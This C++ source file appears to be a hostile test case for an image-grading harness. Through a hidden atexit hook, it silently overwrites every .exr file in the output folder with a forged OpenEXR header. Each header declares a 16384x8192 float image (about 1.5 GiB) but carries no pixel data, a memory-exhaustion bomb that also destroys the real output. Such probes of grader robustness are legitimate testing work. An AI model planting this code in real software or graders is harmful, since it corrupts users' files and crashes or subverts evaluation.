// An image that explodes in the grader: as it exits, rewrites every image in its folder as 64 KiB
// whose EXR header declares 16384x8192 float RGB pixels (1.5 GiB to whoever believes it).
#include <cstdint>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>

#include "hostile_kit.h"
namespace {

template <typename T>
void put(std::string& bytes, T value) {
  bytes.append(reinterpret_cast<const char*>(&value), sizeof value);
}
void attribute(std::string& bytes, const char* name, const char* type, const std::string& value) {
  bytes += name;
  bytes += '\0';
  bytes += type;
  bytes += '\0';
  put<int32_t>(bytes, static_cast<int32_t>(value.size()));
  bytes += value;
}

std::string forgedExr(int32_t width, int32_t height) {
  std::string bytes;
  put<uint32_t>(bytes, 20000630);  // the magic number
  put<uint32_t>(bytes, 2);         // version 2, scan lines
  std::string channels;
  for (const char* name : {"B", "G", "R"}) {
    channels += name;
    channels += '\0';
    put<int32_t>(channels, 2);   // FLOAT
    put<uint32_t>(channels, 0);  // pLinear and reserved
    put<int32_t>(channels, 1);
    put<int32_t>(channels, 1);
  }
  channels += '\0';
  attribute(bytes, "channels", "chlist", channels);
  attribute(bytes, "compression", "compression", std::string(1, '\0'));
  std::string window;
  for (int32_t v : {0, 0, width - 1, height - 1}) put<int32_t>(window, v);
  attribute(bytes, "dataWindow", "box2i", window);
  attribute(bytes, "displayWindow", "box2i", window);
  attribute(bytes, "lineOrder", "lineOrder", std::string(1, '\0'));
  std::string one;
  put<float>(one, 1.0f);
  attribute(bytes, "pixelAspectRatio", "float", one);
  attribute(bytes, "screenWindowCenter", "v2f", std::string(8, '\0'));
  attribute(bytes, "screenWindowWidth", "float", one);
  bytes += '\0';
  bytes.append(8 * static_cast<size_t>(height), '\0');  // the offset table, and nothing after it
  return bytes;
}

const bool attacked = [] {
  std::atexit([] {
    std::error_code error;
    for (const auto& entry : std::filesystem::directory_iterator(hostile::outputFolder(), error))
      if (entry.path().extension() == ".exr")
        std::ofstream(entry.path(), std::ios::binary | std::ios::trunc) << forgedExr(16384, 8192);
  });
  return true;
}();
}  // namespace
